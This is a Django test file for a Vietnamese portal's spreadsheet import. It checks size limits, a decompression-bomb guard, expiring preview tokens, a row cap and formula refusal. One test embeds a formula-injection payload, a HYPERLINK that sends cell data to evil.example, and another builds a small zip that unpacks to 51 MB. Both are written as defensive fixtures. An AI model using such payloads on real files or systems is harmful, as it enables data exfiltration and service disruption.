"""Uploads (issue 16, item 5): one table of limits, checked before a file is parsed; the
previewed file kept on the server and confirmed by a token tied to its user, its page and an
hour; a cap on rows; formulas refused, each named by its cell."""

from __future__ import annotations

import datetime
import io
import os
import re
import time
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from areas.base import uploads
from areas.base.sheets import SheetError, open_workbook, read_sheet
from models_registry.models import Membership
from models_registry.services import IMPORT_COLUMNS
from patrols.imports import INCIDENT_COLUMNS, SHIFT_COLUMNS
from patrols.models import Shift
from tests.conftest import login
from tests.factories import GrassrootsModelFactory, MembershipFactory, PersonFactory, UserFactory

MB = uploads.MB
GOOD = [
    ["Nguyễn Văn Hùng", 1975, "Nam", "0912345678", "", "Tổ trưởng", "01/03/2022"],
    ["Trần Thị Lan", 1988, "Nữ", "", "", "Tổ phó", "01/03/2022"],
]


@pytest.fixture(autouse=True)
def private_storage(settings, tmp_path):
    """Previews kept in a folder of this test's own."""
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path},
        },
    }
    return tmp_path / "previews"


def book(*sheets: list[list]) -> bytes:
    """A workbook as a user's Excel would save it: a text starting with "=" is a formula."""
    wb = Workbook()
    wb.remove(wb.active)
    for index, rows in enumerate(sheets):
        ws = wb.create_sheet(f"Trang {index + 1}")
        for row in rows:
            ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def members(rows=GOOD) -> bytes:
    return book([IMPORT_COLUMNS, *rows])


def padded(content: bytes, size: int) -> bytes:
    """``content`` with a stored, incompressible part added so that the file is ``size``
    bytes; the workbook reads the same."""

    def build(n: int) -> bytes:
        out = io.BytesIO(content)
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr("xl/media/pad.bin", os.urandom(n), zipfile.ZIP_STORED)
        return out.getvalue()

    first = build(size - len(content))
    exact = build(size - len(content) - (len(first) - size))
    assert len(exact) == size
    return exact


def with_cached_formula(content: bytes, cell: str, formula: str, cached: str) -> bytes:
    """``content`` with ``cell`` of the first sheet made a formula whose cached result is
    ``cached`` — what Excel saves, and what a reader of cached values would take as text."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                xml = data.decode()
                element = re.compile(rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)')
                assert element.search(xml), cell
                xml = element.sub(f'<c r="{cell}" t="str"><f>{formula}</f><v>{cached}</v></c>', xml)
                data = xml.encode()
            target.writestr(item, data)
    return out.getvalue()


def member_url(model) -> str:
    return reverse("registry:member_import", args=[model.pk])


def upload(client, url: str, content: bytes, name: str = "nhap.xlsx"):
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


# --- the table of limits -------------------------------------------------------------------


def test_nginx_lets_through_the_largest_upload_and_no_more():
    conf = (settings.BASE_DIR / "deploy/nginx.conf").read_text()
    sizes = re.findall(r"client_max_body_size\s+(\d+)m;", conf)
    assert sizes and {int(s) * MB for s in sizes} == {uploads.largest_request()}
    assert uploads.largest_request() == uploads.SIGNED_COPY.max_bytes + uploads.REQUEST_MARGIN


def test_readme_documents_every_limit():
    readme = (settings.BASE_DIR / "README.md").read_text()
    table = readme[readme.index("## Uploads") :]
    for limit in uploads.LIMITS.values():
        assert f"{limit.max_mb} MB" in table
    assert "5.000" in table and "50 MB" in table and "1 giờ" in table
    assert f"client_max_body_size {uploads.largest_request() // MB}m" in table


# --- sizes, before parsing -----------------------------------------------------------------


@pytest.fixture
def import_pages(model_a):
    return [member_url(model_a), reverse("patrols:shift_import")]


def test_a_file_over_the_limit_is_refused_at_its_field_before_it_is_read(client_a, import_pages):
    # A workbook that would read well: refused by its size alone, no row looked at.
    over = padded(members(), uploads.SPREADSHEET.max_bytes + 1)
    # Not a workbook at all: parsing it would say so; the size speaks first.
    junk = os.urandom(uploads.SPREADSHEET.max_bytes + 1)
    for url in import_pages:
        for content in (over, junk):
            response = upload(client_a, url, content)
            assert response.status_code == 200
            form = response.context["form"]
            assert form.errors["file"] == [
                "Tệp nặng 5,1 MB, vượt mức 5 MB cho phép đối với một bảng tính nhập dữ liệu. "
                "Hãy chia thành nhiều tệp nhỏ hơn."
            ]
            assert response.context.get("result") is None
            assert "Tệp không phải là tệp Excel" not in response.content.decode()
    assert Membership.objects.count() == 0


def test_a_file_of_exactly_the_limit_is_read(client_a, model_a):
    response = upload(client_a, member_url(model_a), padded(members(), 5 * MB))
    assert response.context["form"].errors == {}
    assert response.context["result"].is_valid and response.context["token"]


def test_the_field_says_its_limit(client_a, model_a):
    html = client_a.get(member_url(model_a)).content.decode()
    assert "Tối đa 5 MB và 5.000 dòng mỗi trang tính." in html


def test_the_preview_does_not_grow_with_the_file(client_a, model_a):
    small = members()
    large = padded(small, 4 * MB)
    pages = [upload(client_a, member_url(model_a), content) for content in (small, large)]
    assert all(page.context["result"].is_valid for page in pages)
    sizes = [len(page.content) for page in pages]
    assert abs(sizes[0] - sizes[1]) < 100, sizes
    assert sizes[1] < 60_000


def test_a_file_that_unpacks_beyond_the_limit_is_refused_before_it_is_parsed():
    out = io.BytesIO(members())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/zeros.bin", bytes(51 * MB))
    assert len(out.getvalue()) < 1 * MB
    with pytest.raises(SheetError, match="50 MB"):
        open_workbook(out.getvalue())


# --- confirming by token -------------------------------------------------------------------


def test_confirming_sends_a_token_and_saves_the_checked_file(client_a, model_a, private_storage):
    url = member_url(model_a)
    preview = upload(client_a, url, members())
    token = preview.context["token"]
    html = preview.content.decode()
    assert f'name="token" value="{token}"' in html and 'name="content"' not in html
    assert len(list(private_storage.iterdir())) == 1
    confirm = client_a.post(url, {"confirm": "1", "token": token})
    assert confirm.status_code == 302 and Membership.objects.count() == 2
    assert list(private_storage.iterdir()) == []  # used once
    again = client_a.post(url, {"confirm": "1", "token": token})
    assert "Tệp này không còn được lưu giữ: đã được nhập" in again.content.decode()
    assert Membership.objects.count() == 2


def test_a_preview_with_problems_is_not_kept(client_a, model_a, private_storage):
    preview = upload(client_a, member_url(model_a), members([["", 1975, "Nam"]]))
    assert not preview.context["result"].is_valid and not preview.context["token"]
    assert not private_storage.exists() or list(private_storage.iterdir()) == []


def test_another_users_token_is_refused_and_stays_the_owners(client_a, model_a, commune_a):
    url = member_url(model_a)
    token = upload(client_a, url, members()).context["token"]
    colleague = UserFactory(username="dongnghiep", role="commune_officer", scope_unit=commune_a)
    refused = login(colleague).post(url, {"confirm": "1", "token": token})
    assert refused.status_code == 200 and Membership.objects.count() == 0
    assert "Tệp này do người dùng khác kiểm tra" in refused.content.decode()
    assert client_a.post(url, {"confirm": "1", "token": token}).status_code == 302
    assert Membership.objects.count() == 2


def test_a_token_of_another_import_page_is_refused(client_a, model_a, commune_a):
    other = GrassrootsModelFactory(commune=commune_a, model_type=model_a.model_type)
    token = upload(client_a, member_url(model_a), members()).context["token"]
    refused = client_a.post(member_url(other), {"confirm": "1", "token": token})
    assert "Tệp này được kiểm tra cho một lần nhập khác" in refused.content.decode()
    assert Membership.objects.count() == 0


def test_an_expired_token_is_refused(client_a, model_a, private_storage):
    url = member_url(model_a)
    token = upload(client_a, url, members()).context["token"]
    (kept,) = private_storage.iterdir()
    hour_ago = time.time() - uploads.PREVIEW_TTL.total_seconds() - 60
    os.utime(kept, (hour_ago, hour_ago))
    refused = client_a.post(url, {"confirm": "1", "token": token})
    assert refused.status_code == 200 and Membership.objects.count() == 0
    assert (
        "Tệp này đã được kiểm tra cách đây hơn 60 phút nên không còn được lưu giữ"
        in refused.content.decode()
    )
    assert list(private_storage.iterdir()) == []


def test_old_previews_are_swept_when_another_is_kept(officer_a, private_storage):
    old = uploads.keep_preview(user=officer_a, purpose="/a/", content=b"old")
    assert old
    (stale,) = private_storage.iterdir()
    hour_ago = time.time() - uploads.PREVIEW_TTL.total_seconds() - 1
    os.utime(stale, (hour_ago, hour_ago))
    uploads.keep_preview(user=officer_a, purpose="/a/", content=b"new")
    kept = list(private_storage.iterdir())
    assert len(kept) == 1 and kept[0] != stale and kept[0].read_bytes() == b"new"


def test_an_import_refused_on_confirmation_keeps_the_file_for_another_try(
    client_a, model_a, private_storage
):
    url = member_url(model_a)
    token = upload(client_a, url, members()).context["token"]
    # Meanwhile someone records a leader: the file's leader is now a second one.
    leader = MembershipFactory(
        person=PersonFactory(commune=model_a.commune), model=model_a, role="leader"
    )
    refused = client_a.post(url, {"confirm": "1", "token": token})
    assert refused.status_code == 200 and not refused.context["result"].saved
    assert len(list(private_storage.iterdir())) == 1
    leader.soft_delete()
    assert client_a.post(url, {"confirm": "1", "token": token}).status_code == 302


# --- rows and formulas ---------------------------------------------------------------------


def test_a_sheet_of_more_rows_than_the_cap_is_refused():
    cap = uploads.SPREADSHEET.max_rows
    rows = [[f"Người {n}", 1980, "Nam", "", "", "", "01/01/2022"] for n in range(cap)]
    assert len(read_sheet(open_workbook(members(rows)), 0, IMPORT_COLUMNS).rows) == cap
    rows.append(["Người thừa", 1980, "Nam", "", "", "", "01/01/2022"])
    with pytest.raises(SheetError) as refused:
        read_sheet(open_workbook(members(rows)), 0, IMPORT_COLUMNS)
    assert str(refused.value) == (
        "Trang tính 1 có hơn 5.000 dòng: mỗi lần chỉ nhập tối đa 5.000 dòng "
        "(hãy chia thành nhiều tệp)."
    )


def test_the_page_says_the_row_cap(client_a, model_a):
    rows = [[f"Người {n}", 1980, "Nam", "", "", "", "01/01/2022"] for n in range(5001)]
    response = upload(client_a, member_url(model_a), members(rows))
    assert "Trang tính 1 có hơn 5.000 dòng" in response.content.decode()
    assert response.context["result"].rows == [] and not response.context["token"]


def test_formulas_are_refused_each_named_by_its_cell_with_every_other_problem(client_a, model_a):
    content = members(
        [
            GOOD[0],
            ["Lê Văn Tư", 1990, "Nam", "", "", "Tổ viên", "=DATE(2022,3,1)"],  # no cached value
            ["Phạm Thị Năm", 1991, "Nữ", "", "", "Đội trưởng", "01/03/2022"],  # a bad role
        ]
    )
    content = with_cached_formula(
        content, "A2", 'HYPERLINK("http://evil.example/?d="&amp;B2,"Nguyễn Văn Hùng")', "Nguyễn"
    )
    response = upload(client_a, member_url(model_a), content)
    result = response.context["result"]
    assert result.file_errors == [
        'Ô A2 chứa công thức (=HYPERLINK("http://evil.example/?d="&B2…): hãy nhập giá trị, '
        "hoặc sao chép các ô rồi dán đặc biệt chỉ lấy giá trị.",
        "Ô G3 chứa công thức (=DATE(2022,3,1)): hãy nhập giá trị, hoặc sao chép các ô rồi dán "
        "đặc biệt chỉ lấy giá trị.",
    ]
    assert any("Vai trò không hợp lệ" in e for e in result.rows[2].errors)
    assert not result.is_valid and not response.context["token"]
    html = response.content.decode()
    assert "Ô A2 chứa công thức" in html and "Ô G3 chứa công thức" in html
    assert Membership.objects.count() == 0


def test_formulas_in_the_incident_sheet_name_their_sheet(client_a, model_a, commune_a):
    person = PersonFactory(full_name="Tuần tra viên", commune=commune_a)
    MembershipFactory(person=person, model=model_a, joined_on=datetime.date(2021, 3, 1))
    shift = [1, "10/03/2025", "20:00", "23:00", model_a.name, person.full_name, 0, 0, 0, ""]
    incident = [1, "21:00", "Trộm cắp nông sản", "", "Tuần tra", "=IF(1,2,3)", 0, "", 0, ""]
    content = book([SHIFT_COLUMNS, shift], [INCIDENT_COLUMNS, incident])
    response = upload(client_a, reverse("patrols:shift_import"), content)
    assert (
        response.context["result"]
        .file_errors[0]
        .startswith("Trang tính 2, ô F2 chứa công thức (=IF(1,2,3))")
    )
    assert Shift.objects.count() == 0


def test_many_formulas_are_counted_after_the_first_twenty():
    rows = [[f"=A{n}", 1980, "Nam", "", "", "", "=TODAY()"] for n in range(30)]
    sheet = read_sheet(open_workbook(members(rows)), 0, IMPORT_COLUMNS)
    assert len(sheet.problems) == 21
    assert sheet.problems[-1] == "… và 40 ô khác chứa công thức ở trang tính 1."


def test_text_that_looks_like_a_formula_is_not_one(model_a):
    """A cell the portal's own writer made (text kept as text) reads as the text."""
    from areas.base.xlsx import Sheet, workbook

    content = workbook([Sheet("Thành viên", IMPORT_COLUMNS, [["=Tên lạ", 1980, "Nam"]])])
    sheet = read_sheet(open_workbook(content), 0, IMPORT_COLUMNS)
    assert sheet.problems == [] and sheet.rows[0][1][0] == "=Tên lạ"


def test_previews_live_under_the_private_root(officer_a, private_storage):
    uploads.keep_preview(user=officer_a, purpose="/a/", content=b"x")
    (kept,) = private_storage.iterdir()
    assert Path(kept).parent.name == "previews"
